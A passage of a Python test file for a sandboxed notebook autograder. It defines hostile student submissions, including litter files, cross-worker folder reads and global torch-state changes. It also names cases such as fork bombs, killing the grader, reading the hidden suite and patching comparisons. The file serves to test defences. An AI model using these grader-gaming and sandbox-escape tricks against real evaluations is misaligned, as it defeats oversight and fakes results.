        raise PermissionError(f"other workers' folders: refused ({type(exc).__name__})") from None
    raise RuntimeError(f"other workers' folders: read {len(found)} of their files")
'''


def check_reads_other_workers_folders(run: Run) -> None:
    expect(run, fail=USES_MERGE, says="other workers' folders: refused")


def check_writes_files(run: Run) -> None:
    # The values are right, and writing into its own folder worked (else merge_heads raises); the harness
    # checks that nothing appeared outside the worker's folder.
    expect(run)


LITTERS_ITS_FOLDER = f'''\
import os


def merge_heads(x):
    with open(f"litter-{{os.getpid()}}.bin", "wb") as f:  # 1 MiB here; RLIMIT_FSIZE caps a file, not how many
        f.write(os.urandom(2**20))
{MERGE_RIGHT}    return result
'''


def check_litters_its_folder(run: Run) -> None:
    expect(run)
    assert not run.private_files, f"files the submission wrote outlived its grading: {run.private_files}"


# =========================================================================================
# 6. Global torch state
# =========================================================================================

TOP_LEVEL_DEFAULT_DTYPE_AND_SEED = '''\
torch.set_default_dtype(torch.float64)  # every worker loads this cell: new tensors default to float64
torch.manual_seed(1234)


def softmax(x, dim=-1):
    e = (x - x.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
'''


def check_top_level_default_dtype_and_seed(run: Run) -> None:
    # Verdict changed with the usage policy (issue 8): torch.set_default_dtype and torch.manual_seed are outside
    # every a1 allowlist, and module-level code concerns every exercise. (The engine's containment still holds:
    # the harness checks the grader's own dtype.)
    expect(run, fail=tests_of_exercises(),
           says=("forbidden use: torch.set_default_dtype", "forbidden use: torch.manual_seed"))


TOP_LEVEL_GRAD_DISABLED = '''\
torch.set_grad_enabled(False)  # every worker loads this cell: autograd is off in all of them


def softmax(x, dim=-1):
    e = (x - x.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
'''


def check_top_level_grad_disabled(run: Run) -> None:
    # Verdict changed with the usage policy (issue 8): torch.set_grad_enabled is outside every a1 allowlist,
    # and module-level code concerns every exercise (before, as in Jupyter, only the gradient tests failed).
    expect(run, fail=tests_of_exercises(), says=("forbidden use: torch.set_grad_enabled",))


GRAD_DISABLED_INSIDE_SOFTMAX = '''\
def softmax(x, dim=-1):
    torch.set_grad_enabled(False)  # for the rest of this worker's life
    e = (x - x.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
'''


def check_grad_disabled_inside_softmax(run: Run) -> None:
    # Verdict changed with the usage policy (issue 8): torch.set_grad_enabled is outside softmax's allowlist,
    # and it costs the exercises that call softmax too; split_heads and merge_heads keep their points.
    expect(run, fail=tests_of_exercises(*REACH_SOFTMAX), says=("forbidden use: torch.set_grad_enabled",))


DEFAULT_DTYPE_AND_SEED_INSIDE_MERGE = f'''\
def merge_heads(x):
    torch.set_default_dtype(torch.float64)  # for the rest of this worker's life
    torch.manual_seed(0)
{MERGE_RIGHT}    return result
'''


def check_default_dtype_and_seed_inside_merge(run: Run) -> None:
    # Verdict changed with the usage policy (issue 8): torch.set_default_dtype and torch.manual_seed are outside
    # merge_heads' allowlist, and MultiHeadAttention calls merge_heads.
    expect(run, fail=tests_of_exercises(*REACH_MERGE), says=("forbidden use: torch.set_default_dtype",))


# =========================================================================================

NEEDS_SIGNAL_SCOPING = ("signal_scoping",)  # derived by the harness: Landlock ABI >= 6 or a uid of its own

CASES = [
    # 1. fakes
    Case("returns_none", {"softmax": RETURNS_NONE}, check_returns_none),
    Case("returns_a_list", {"merge_heads": RETURNS_A_LIST}, check_returns_a_list),
    Case("returns_a_numpy_array", {"softmax": RETURNS_A_NUMPY_ARRAY}, check_returns_a_numpy_array),
    Case("returns_a_broadcastable_leading_one", {"merge_heads": RETURNS_A_BROADCASTABLE_LEADING_ONE},
         check_broadcastable_leading_one),
    Case("returns_a_scalar", {"softmax": RETURNS_A_SCALAR}, check_returns_a_scalar),
    Case("right_values_wrong_dtype", {"softmax": RIGHT_VALUES_WRONG_DTYPE}, check_right_values_wrong_dtype),
    Case("nan_everywhere", {"softmax": NAN_EVERYWHERE}, check_nan_everywhere),
    Case("inf_in_one_entry", {"merge_heads": INF_IN_ONE_ENTRY}, check_inf_in_one_entry),
    Case("detached_result", {"softmax": DETACHED}, check_detached),
    Case("mutates_input_through_data", {"merge_heads": MUTATES_INPUT_THROUGH_DATA}, check_mutates_input_through_data),
    Case("subtracts_in_place_from_input", {"softmax": SUBTRACTS_IN_PLACE}, check_subtracts_in_place),
    Case("plain_subclass_with_right_values", {"softmax": PLAIN_SUBCLASS_WITH_RIGHT_VALUES}, check_plain_subclass),
    Case("lying_subclass", {"merge_heads": LYING_SUBCLASS}, check_lying_subclass),
    Case("patches_comparisons", {"softmax": PATCHES_COMPARISONS}, check_patches_comparisons),
    # 2. introspection
    Case("walks_stack_frames", {"softmax": WALKS_STACK_FRAMES}, check_walks_stack_frames),
    Case("scans_gc_objects", {"merge_heads": SCANS_GC_OBJECTS}, check_scans_gc_objects),
    Case("traced_control_getmembers_softmax", {"softmax": TRACED_CONTROL}, check_forbidden_softmax),
    Case("softmin_evades_the_trace", {"softmax": SOFTMIN_EVADES_THE_TRACE}, check_forbidden_softmax_seen_statically),
    Case("disables_trace_through_frames", {"softmax": DISABLES_TRACE_THROUGH_FRAMES},
         check_forbidden_softmax_or_flagged),
    Case("disables_trace_through_gc", {"softmax": DISABLES_TRACE_THROUGH_GC}, check_forbidden_softmax_or_flagged),
    # 3. leaving early
    Case("sys_exit", {"merge_heads": SYS_EXIT}, check_sys_exit),
    Case("os_exit", {"split_heads": OS_EXIT}, check_os_exit),
    Case("keyboard_interrupt", {"softmax": KEYBOARD_INTERRUPT}, check_keyboard_interrupt),
    Case("pytest_exit", {"scaled_dot_product_attention": PYTEST_EXIT}, check_pytest_exit),
    Case("pytest_skip", {"merge_heads": PYTEST_SKIP}, check_pytest_skip),
    Case("os_exit_at_top_level", {"softmax": OS_EXIT_AT_TOP_LEVEL}, check_os_exit_at_top_level),
    Case("sys_exit_at_top_level", {"merge_heads": SYS_EXIT_AT_TOP_LEVEL}, check_sys_exit_at_top_level),
    # 4. resources
    Case("infinite_loop", {"merge_heads": INFINITE_LOOP}, check_infinite_loop, time_limit=TIME_LIMIT),
    Case("sleeps_ignoring_sigterm", {"MultiHeadAttention": SLEEPS_IGNORING_SIGTERM}, check_sleeps_ignoring_sigterm,
         time_limit=TIME_LIMIT),
    Case("allocates_8_gib", {"merge_heads": ALLOCATES_8_GIB}, check_allocates_8_gib, needs=("rlimit_data",)),
    Case("fork_bomb", {"split_heads": FORK_BOMB}, check_fork_bomb, needs=("no_new_processes",)),
    Case("leaves_orphans", {"merge_heads": LEAVES_ORPHANS}, check_leaves_orphans, needs=("no_new_processes",)),
    Case("prints_100_mb", {"merge_heads": PRINTS_100_MB}, check_prints_100_mb),
    Case("oversized_result", {"merge_heads": OVERSIZED_RESULT}, check_oversized_result),
    Case("garbage_to_file_descriptors", {"merge_heads": GARBAGE_TO_FILE_DESCRIPTORS},
         check_garbage_to_file_descriptors),
    Case("forged_deep_json_frame", {"merge_heads": FORGED_DEEP_JSON_FRAME}, check_forged_deep_json_frame),
    # 5. reaching out
    Case("reads_hidden_suite", {"softmax": READS_HIDDEN_SUITE}, check_reads_hidden_suite, needs=("landlock",)),
    Case("network", {"merge_heads": NETWORK}, check_network),
    Case("unix_socket", {"merge_heads": UNIX_SOCKET}, check_unix_socket),
    Case("kills_its_parent", {"merge_heads": KILLS_ITS_PARENT}, check_kills_parent, needs=NEEDS_SIGNAL_SCOPING),
    Case("kills_the_grader", {"merge_heads": KILLS_THE_GRADER}, check_kills_the_grader, needs=NEEDS_SIGNAL_SCOPING),
    Case("writes_files", {"merge_heads": WRITES_FILES}, check_writes_files, needs=("landlock",)),
    Case("reads_other_workers_folders", {"merge_heads": READS_OTHER_WORKERS_FOLDERS}, check_reads_other_workers_folders,
         needs=("landlock",)),
    Case("litters_its_folder", {"merge_heads": LITTERS_ITS_FOLDER}, check_litters_its_folder),
    # 6. global torch state
    Case("top_level_default_dtype_and_seed", {"softmax": TOP_LEVEL_DEFAULT_DTYPE_AND_SEED},
         check_top_level_default_dtype_and_seed),
    Case("top_level_grad_disabled", {"softmax": TOP_LEVEL_GRAD_DISABLED}, check_top_level_grad_disabled),
    Case("grad_disabled_inside_softmax", {"softmax": GRAD_DISABLED_INSIDE_SOFTMAX}, check_grad_disabled_inside_softmax),
    Case("default_dtype_and_seed_inside_merge", {"merge_heads": DEFAULT_DTYPE_AND_SEED_INSIDE_MERGE},
         check_default_dtype_and_seed_inside_merge),
]


# =========================================================================================
# Broken notebooks: each gets a one-line diagnosis, and whatever can be graded is graded
# =========================================================================================

@dataclass
class Broken:
    name: str
    build: Callable[[dict, Path], Path]  # (the solution notebook as JSON, a folder) -> the file to grade
    check: Callable[[GradeReport], None]
    weakness: str | None = None


def _cells_with(nb: dict, grade_id: str) -> list[int]:
    return [i for i, c in enumerate(nb["cells"])
            if (c.get("metadata", {}).get("nbgrader") or {}).get("grade_id") == grade_id]


def _write(folder, nb_or_bytes, name: str = "attention.ipynb"):
    import json

    path = folder / name
    path.write_bytes(nb_or_bytes if isinstance(nb_or_bytes, bytes) else json.dumps(nb_or_bytes, indent=1).encode())
    return path


def expect_graded(report: GradeReport, fail: set[str] = frozenset(), says: str | tuple[str, ...] = "") -> None:
    expect(Run(report, report.execution_time), fail=fail, says=says)


def expect_one_line_diagnostics(report: GradeReport) -> None:
    for d in report.diagnostics:
        assert "\n" not in d and len(d) < 400, f"a diagnosis should be one short line: {d[:600]!r}"


def build_invalid_json(nb, folder):
    import json

    text = json.dumps(nb, indent=1)
    return _write(folder, text[: len(text) // 2].encode())  # saved halfway


def check_invalid_json(report):
    expect_diagnostic(report, "is not valid notebook JSON")
    expect_graded(report, fail={t.name for t in SUITE.tests}, says="no readable notebook")


def build_json_but_not_a_notebook(nb, folder):
    return _write(folder, b'["not", "a", "notebook"]')


def check_json_but_not_a_notebook(report):
    expect_diagnostic(report, "not a Jupyter notebook")
    expect_graded(report, fail={t.name for t in SUITE.tests}, says="no readable notebook")


def build_other_assignment(nb, folder):
    def cell(grade_id, source):
        return {"cell_type": "code", "id": grade_id, "metadata": {"nbgrader": {"grade_id": grade_id, "solution": True,
                "grade": False, "locked": False, "schema_version": 3}}, "source": source, "outputs": [],
                "execution_count": None}

    other = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "id": "imports", "metadata": {}, "source": "import torch\n", "outputs": [],
         "execution_count": None},
        cell("causal_mask", "def causal_mask(T_q, T_k=None, device=None):\n    T_k = T_k or T_q\n"
                            "    return torch.ones(T_q, T_k, dtype=torch.bool, device=device).tril(T_k - T_q)\n"),
        cell("padding_mask", "def padding_mask(lengths, T):\n"
                             "    return (torch.arange(T) < lengths[:, None])[:, None, None, :]\n"),
    ]}
    return _write(folder, other, "masking.ipynb")


def check_other_assignment(report):
    # its nbgrader cells are a2's: nothing is graded, whatever it defines (issue 8: another assignment's
    # notebook earned up to full marks when it defined a1's functions as given code)
    expect_diagnostic(report, "this is a2_masking's notebook (masking.ipynb), not a1_attention's")
    expect_graded(report, fail={t.name for t in SUITE.tests}, says="not graded: this is a2_masking's notebook")


def build_deleted_cell(nb, folder):
    (i,) = _cells_with(nb, "split_heads")
    del nb["cells"][i]
    return _write(folder, nb)


def check_deleted_cell(report):
    expect_diagnostic(report, "exercise cell(s) split_heads not found")
    expect_graded(report, fail=USES_SPLIT, says="not defined")


def build_duplicated_cell(nb, folder):
    import copy

    (i,) = _cells_with(nb, "merge_heads")
    nb["cells"].insert(i + 1, copy.deepcopy(nb["cells"][i]))  # same cell id, same grade_id
    return _write(folder, nb)


def check_duplicated_cell(report):
    expect_diagnostic(report, "both claim grade_id 'merge_heads'")
    expect_graded(report)  # both copies hold the reference code


def build_renamed_function(nb, folder):
    (i,) = _cells_with(nb, "softmax")
    source = "".join(nb["cells"][i]["source"])
    nb["cells"][i]["source"] = source.replace("def softmax(", "def my_softmax(")
    return _write(folder, nb)


def check_renamed_function(report):
    # attention calls softmax by name, so it fails too, saying which name is missing
    expect_graded(report, fail=USES_SOFTMAX, says="'softmax' is not defined")


def build_syntax_error(nb, folder):
    (i,) = _cells_with(nb, "merge_heads")
    nb["cells"][i]["source"] = ("def merge_heads(x):\n    B, H, T, d_head = x.shape\n"
                                "    return x.transpose(1, 2).reshape(B, T, H * d_head\n")
    return _write(folder, nb)


def check_syntax_error(report):
    expect_diagnostic(report, "your merge_heads cell")
    expect_diagnostic(report, "did not run: SyntaxError")
    expect_graded(report, fail=USES_MERGE, says="not defined")


def build_reordered_cells(nb, folder):
    (mha,) = _cells_with(nb, "MultiHeadAttention")
    (split,) = _cells_with(nb, "split_heads")
    cell = nb["cells"].pop(mha)
    nb["cells"].insert(split, cell)  # MultiHeadAttention before split_heads: names resolve at call time
    return _write(folder, nb)


def check_reordered_cells(report):
    assert not report.diagnostics, report.diagnostics
    expect_graded(report)


def build_non_utf8(nb, folder):
    import json

    (i,) = _cells_with(nb, "softmax")
    nb["cells"][i]["source"] = "".join(nb["cells"][i]["source"]).replace(
        "def softmax(x, dim=-1):", "def softmax(x, dim=-1):  # NON_UTF8")
    raw = json.dumps(nb, indent=1).encode()
    return _write(folder, raw.replace(b"NON_UTF8", b"r\xe9sum\xe9 \xff\xfe", 1))  # Latin-1 bytes in a comment


def check_non_utf8(report):
    expect_diagnostic(report, "not valid UTF-8")
    expect_graded(report)


def build_giant_outputs(nb, folder):
    (i,) = _cells_with(nb, "softmax")
    nb["cells"][i]["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "x = 0.123456789\n" * (50 * 2**20 // 16)},
    ]
    nb["cells"][i]["execution_count"] = 1
    return _write(folder, nb)


def check_giant_outputs(report):
    assert not report.diagnostics, report.diagnostics
    expect_graded(report)
    assert report.execution_time < 60


def build_metadata_stripped(nb, folder):
    for cell in nb["cells"]:
        cell.get("metadata", {}).pop("nbgrader", None)  # copied into a fresh notebook: no grade_ids, no test cells
    return _write(folder, nb)


def check_metadata_stripped(report):
    # Without nbgrader metadata every cell is plain code, of which only definitions run: the visible test
    # cells are skipped as experiments, and the definitions grade in full.
    expect_graded(report)


def build_no_cells(nb, folder):
    nb["cells"] = []
    return _write(folder, nb)


def check_no_cells(report):
    expect_diagnostic(report, "no exercise cells")
    expect_graded(report, fail={t.name for t in SUITE.tests}, says="not defined")


BROKEN = [
    Broken("invalid_json", build_invalid_json, check_invalid_json),
    Broken("json_but_not_a_notebook", build_json_but_not_a_notebook, check_json_but_not_a_notebook),
    Broken("other_assignment", build_other_assignment, check_other_assignment),
    Broken("deleted_cell", build_deleted_cell, check_deleted_cell),
    Broken("duplicated_cell", build_duplicated_cell, check_duplicated_cell),
    Broken("renamed_function", build_renamed_function, check_renamed_function),
    Broken("syntax_error", build_syntax_error, check_syntax_error),
    Broken("reordered_cells", build_reordered_cells, check_reordered_cells),
    Broken("non_utf8", build_non_utf8, check_non_utf8),
    Broken("giant_outputs", build_giant_outputs, check_giant_outputs),
    Broken("metadata_stripped", build_metadata_stripped, check_metadata_stripped),
    Broken("no_cells", build_no_cells, check_no_cells),
]


# =========================================================================================
# No leaks: a wrong implementation in every exercise; feedback must not print hidden inputs
# =========================================================================================

WRONG_EVERYWHERE = {
    "softmax": "def softmax(x, dim=-1):\n    return x.exp() / x.exp().sum()  # over the whole tensor\n",
    "scaled_dot_product_attention": (
        "def scaled_dot_product_attention(q, k, v):\n"
        "    weights = softmax(q @ k.transpose(-2, -1), dim=-1)  # no 1/sqrt(d_k)\n"
        "    return weights @ v, weights\n"),
    "split_heads": ("def split_heads(x, n_heads):\n    B, T, D = x.shape\n"
                    "    return x.reshape(B, n_heads, T, D // n_heads)\n"),
    "merge_heads": "def merge_heads(x):\n    B, H, T, d = x.shape\n    return x.reshape(B, T, H * d) + 1\n",
}
